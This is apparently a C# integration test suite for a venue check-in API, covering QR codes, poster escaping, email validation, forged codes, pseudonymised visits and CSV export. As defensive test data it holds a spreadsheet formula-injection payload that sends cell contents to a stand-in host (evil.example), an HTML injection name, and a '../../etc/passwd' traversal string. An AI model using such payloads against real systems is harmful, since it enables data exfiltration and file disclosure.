using System.Net;
using System.Text.Json;
using CheckIn.Grains.Interfaces.Tenants;
using CheckIn.Tests.Web;

namespace CheckIn.Tests.CheckIn.Web;

/// <summary>Venue registration, QR codes, the poster and check-ins through HTTP (API.md, Venue check-in).</summary>
[Collection(CheckInWebCollection.Name)]
public sealed class CheckInApiTests(CheckInWebFixture fixture)
{
    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Fact]
    public async Task CreateVenue_ByOperator_ReturnsSignedCodeAndCheckInUrl()
    {
        var venue = await fixture.CreateVenueAsync();

        Assert.Equal("/c/" + venue.Code, venue.CheckInUrl);
        Assert.Equal($"c-{venue.Code}@{CheckInWebFixture.MailDomain}", venue.MailAddress, ignoreCase: true);
        Assert.NotEqual(venue.Code, (await fixture.CreateVenueAsync()).Code);
    }

    [Fact]
    public async Task CreateVenue_MissingFields_400ValidationFailed()
    {
        using var client = fixture.ClientFor(StaffRoles.MunicipalityAdmin);
        using var response = await client.PostJsonAsync($"/api/tenants/{fixture.Tenant}/venues", new { name = " ", category = "cafe" });

        var problem = await response.AssertProblemAsync(HttpStatusCode.BadRequest, "validation_failed");
        Assert.True(problem.GetProperty("errors").TryGetProperty("name", out _));
        Assert.True(problem.GetProperty("errors").TryGetProperty("address", out _));
    }

    [Fact]
    public async Task CreateVenue_OverlongName_400InvalidVenue()
    {
        using var client = fixture.ClientFor(StaffRoles.MunicipalityAdmin);
        using var response = await client.PostJsonAsync($"/api/tenants/{fixture.Tenant}/venues", new { name = new string('x', 5000), category = "cafe", address = "x" });

        await response.AssertProblemAsync(HttpStatusCode.BadRequest, "invalid_venue");
    }

    [Fact]
    public async Task QrCodes_Owner_SvgAndPngOfAbsoluteCheckInUrl()
    {
        var venue = await fixture.CreateVenueAsync();
        using var owner = fixture.ClientFor(StaffRoles.VenueOperator);

        using var svg = await owner.GetAsync($"/api/venues/{venue.VenueId}/qr.svg", Cancel);
        using var png = await owner.GetAsync($"/api/venues/{venue.VenueId}/qr.png", Cancel);

        Assert.Equal(HttpStatusCode.OK, svg.StatusCode);
        Assert.Equal("image/svg+xml", svg.Content.Headers.ContentType?.MediaType);
        Assert.Contains("<svg", await svg.Content.ReadAsStringAsync(Cancel), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.OK, png.StatusCode);
        Assert.Equal("image/png", png.Content.Headers.ContentType?.MediaType);
        Assert.Equal([0x89, (byte)'P', (byte)'N', (byte)'G'], (await png.Content.ReadAsByteArrayAsync(Cancel))[..4]);
    }

    [Fact]
    public async Task QrCode_OperatorNotHoldingVenue_403Forbidden()
    {
        var venue = await fixture.CreateVenueAsync();
        using var other = fixture.ClientFor(StaffRoles.VenueOperator, otherOperator: true);

        using var response = await other.GetAsync($"/api/venues/{venue.VenueId}/qr.svg", Cancel);

        await response.AssertProblemAsync(HttpStatusCode.Forbidden, "forbidden");
    }

    [Fact]
    public async Task QrCode_UnknownVenue_404UnknownVenue()
    {
        using var client = fixture.ClientFor(StaffRoles.MunicipalityAdmin);

        using var response = await client.GetAsync("/api/venues/nosuchvenue/qr.svg", Cancel);

        await response.AssertProblemAsync(HttpStatusCode.NotFound, "unknown_venue");
    }

    [Fact]
    public async Task Poster_MunicipalityAdmin_PrintablePageWithNameQrAndMailAddress()
    {
        var venue = await fixture.CreateVenueAsync("<b>居酒屋 & Bar</b>");
        using var client = fixture.ClientFor(StaffRoles.MunicipalityAdmin);

        using var response = await client.GetAsync($"/staff/venues/{venue.VenueId}/poster", Cancel);
        var html = await response.Content.ReadAsStringAsync(Cancel);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/html", response.Content.Headers.ContentType?.MediaType);
        Assert.Contains("&lt;b&gt;", html, StringComparison.Ordinal);
        Assert.Contains("&amp; Bar&lt;/b&gt;", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<b>", html, StringComparison.Ordinal);
        Assert.Contains("<svg", html, StringComparison.Ordinal);
        Assert.Contains("size: A4", html, StringComparison.Ordinal);
        Assert.Contains(venue.MailAddress, html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains(CheckInWebFixture.PublicBaseUrl + "c/" + venue.Code, html, StringComparison.Ordinal);
        Assert.DoesNotContain("script-src", response.Headers.GetValues("Content-Security-Policy").Single(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task CheckIn_SameAddressTwiceWithinTenMinutes_201ThenSameCheckIn200()
    {
        var venue = await fixture.CreateVenueAsync();
        using var client = fixture.Anonymous();
        var email = CheckInWebFixture.NewEmail();

        using var first = await client.PostJsonAsync("/api/checkins", new { code = venue.Code, email });
        using var second = await client.PostJsonAsync("/api/checkins", new { code = venue.Code, email = email.ToUpperInvariant() });

        Assert.Equal(HttpStatusCode.Created, first.StatusCode);
        Assert.Equal(HttpStatusCode.OK, second.StatusCode);
        using var a = await first.ReadJsonAsync();
        using var b = await second.ReadJsonAsync();
        Assert.Equal(a.RootElement.GetProperty("checkInId").GetString(), b.RootElement.GetProperty("checkInId").GetString());
        Assert.Equal("カフェ テスト", a.RootElement.GetProperty("venueName").GetString());
        Assert.Equal(1, a.RootElement.GetProperty("points").GetInt32());
        Assert.Equal(1, b.RootElement.GetProperty("points").GetInt32());
        Assert.True(a.RootElement.TryGetProperty("at", out _));
        Assert.DoesNotContain(email, await first.Content.ReadAsStringAsync(Cancel), StringComparison.OrdinalIgnoreCase);
    }

    [Theory]
    [InlineData("")]
    [InlineData("not-an-address")]
    [InlineData("two@@example.jp")]
    [InlineData("visitor@")]
    public async Task CheckIn_InvalidEmail_400InvalidEmail(string email)
    {
        var venue = await fixture.CreateVenueAsync();
        using var client = fixture.Anonymous();

        using var response = await client.PostJsonAsync("/api/checkins", new { code = venue.Code, email });

        await response.AssertProblemAsync(HttpStatusCode.BadRequest, "invalid_email");
    }

    [Fact]
    public async Task CheckIn_ForgedOrUnknownCodes_404UnknownVenue()
    {
        var venue = await fixture.CreateVenueAsync();
        using var client = fixture.Anonymous();
        var email = CheckInWebFixture.NewEmail();

        foreach (var code in ForgedCodes(venue.Code, venue.VenueId))
        {
            using var response = await client.PostJsonAsync("/api/checkins", new { code, email });
            await response.AssertProblemAsync(HttpStatusCode.NotFound, "unknown_venue");
        }
    }

    [Fact]
    public async Task CheckIn_MissingBody_400MissingBody()
    {
        using var client = fixture.Anonymous();

        using var response = await client.PostRawAsync("/api/checkins", "null");

        await response.AssertProblemAsync(HttpStatusCode.BadRequest, "missing_body");
    }

    [Fact]
    public async Task Visits_AfterCheckIns_CountAndPseudonymsNeverAddresses()
    {
        var venue = await fixture.CreateVenueAsync();
        using var visitor = fixture.Anonymous();
        var emails = new[] { CheckInWebFixture.NewEmail("a"), CheckInWebFixture.NewEmail("b") };
        foreach (var email in emails)
        {
            using var checkedIn = await visitor.PostJsonAsync("/api/checkins", new { code = venue.Code, email });
            Assert.Equal(HttpStatusCode.Created, checkedIn.StatusCode);
        }

        foreach (var role in new[] { StaffRoles.VenueOperator, StaffRoles.HealthOfficer, StaffRoles.MunicipalityAdmin })
        {
            using var staff = fixture.ClientFor(role);
            using var response = await staff.GetAsync($"/api/venues/{venue.VenueId}/visits", Cancel);
            var body = await response.Content.ReadAsStringAsync(Cancel);

            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
            using var json = JsonDocument.Parse(body);
            Assert.Equal(2, json.RootElement.GetProperty("count").GetInt32());
            var visits = json.RootElement.GetProperty("visits").EnumerateArray().ToList();
            Assert.Equal(2, visits.Select(static v => v.GetProperty("visitor").GetString()).Distinct().Count());
            Assert.All(visits, static v => Assert.True(v.TryGetProperty("at", out _)));
            Assert.DoesNotContain("@", body, StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task Visits_ReversedWindow_400InvalidWindow()
    {
        var venue = await fixture.CreateVenueAsync();
        using var staff = fixture.ClientFor(StaffRoles.HealthOfficer);

        using var response = await staff.GetAsync($"/api/venues/{venue.VenueId}/visits?from=2026-01-02T00:00:00%2B09:00&to=2026-01-01T00:00:00%2B09:00", Cancel);

        await response.AssertProblemAsync(HttpStatusCode.BadRequest, "invalid_window");
    }

    [Fact]
    public async Task VisitsCsv_FormulaInVenueName_NeutralisedAndNoAddresses()
    {
        var venue = await fixture.CreateVenueAsync("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\") mail me@evil.example");
        using var visitor = fixture.Anonymous();
        var email = CheckInWebFixture.NewEmail();
        using (var checkedIn = await visitor.PostJsonAsync("/api/checkins", new { code = venue.Code, email }))
        {
            Assert.Equal(HttpStatusCode.Created, checkedIn.StatusCode);
        }

        using var staff = fixture.ClientFor(StaffRoles.VenueOperator);
        using var visits = await staff.GetAsync($"/api/venues/{venue.VenueId}/visits.csv", Cancel);
        using var counts = await staff.GetAsync($"/api/venues/{venue.VenueId}/visit-counts.csv", Cancel);

        foreach (var response in new[] { visits, counts })
        {
            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
            Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
            var csv = await response.Content.ReadAsStringAsync(Cancel);
            var rows = csv.TrimStart('\uFEFF').Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
            Assert.True(rows.Length >= 2, csv);
            Assert.All(rows.Skip(1), static row => Assert.StartsWith("\"'=HYPERLINK", row, StringComparison.Ordinal));
            Assert.DoesNotContain("@", csv, StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task VisitCounts_AfterCheckIn_TotalByDayAndHour()
    {
        var venue = await fixture.CreateVenueAsync();
        using var visitor = fixture.Anonymous();
        using (var checkedIn = await visitor.PostJsonAsync("/api/checkins", new { code = venue.Code, email = CheckInWebFixture.NewEmail() }))
        {
            Assert.Equal(HttpStatusCode.Created, checkedIn.StatusCode);
        }

        using var staff = fixture.ClientFor(StaffRoles.HealthOfficer);
        using var response = await staff.GetAsync($"/api/venues/{venue.VenueId}/visit-counts", Cancel);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        using var json = await response.ReadJsonAsync();
        Assert.Equal(1, json.RootElement.GetProperty("total").GetInt32());
        Assert.Equal(1, Assert.Single(json.RootElement.GetProperty("hours").EnumerateArray().ToList()).GetProperty("count").GetInt32());
    }

    [Fact]
    public async Task LotteryDraw_MunicipalityAdmin_RecordedAndReproducible()
    {
        using var admin = fixture.ClientFor(StaffRoles.MunicipalityAdmin);
        var drawId = WebFixture.Unique("draw");

        using var drawn = await admin.PostJsonAsync($"/api/tenants/{fixture.Tenant}/lottery/draws", new { drawId, winners = 3 });
        using var again = await admin.GetAsync($"/api/tenants/{fixture.Tenant}/lottery/draws/{drawId}", Cancel);
        using var invalid = await admin.PostJsonAsync($"/api/tenants/{fixture.Tenant}/lottery/draws", new { winners = 0 });
        using var unknown = await admin.GetAsync($"/api/tenants/{fixture.Tenant}/lottery/draws/nosuchdraw", Cancel);

        Assert.Equal(HttpStatusCode.Created, drawn.StatusCode);
        Assert.Equal(HttpStatusCode.OK, again.StatusCode);
        using var first = await drawn.ReadJsonAsync();
        using var second = await again.ReadJsonAsync();
        Assert.True(first.RootElement.GetProperty("reproducible").GetBoolean());
        Assert.Equal(first.RootElement.GetProperty("seed").GetString(), second.RootElement.GetProperty("seed").GetString());
        await invalid.AssertProblemAsync(HttpStatusCode.BadRequest, "validation_failed");
        await unknown.AssertProblemAsync(HttpStatusCode.NotFound, "unknown_draw");
    }

    /// <summary>Codes that must not check anyone in: the venue id, a changed character, a cut or extended code,
    /// another case of a changed code, random text.</summary>
    internal static IEnumerable<string> ForgedCodes(string code, string venueId)
    {
        yield return venueId;
        yield return code[..^1] + (code[^1] == 'a' ? 'b' : 'a');
        yield return (code[0] == 'a' ? 'b' : 'a') + code[1..];
        yield return code[..^2];
        yield return code + "a";
        yield return "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
        yield return "../../etc/passwd";
        yield return new string('z', 500);
    }
}
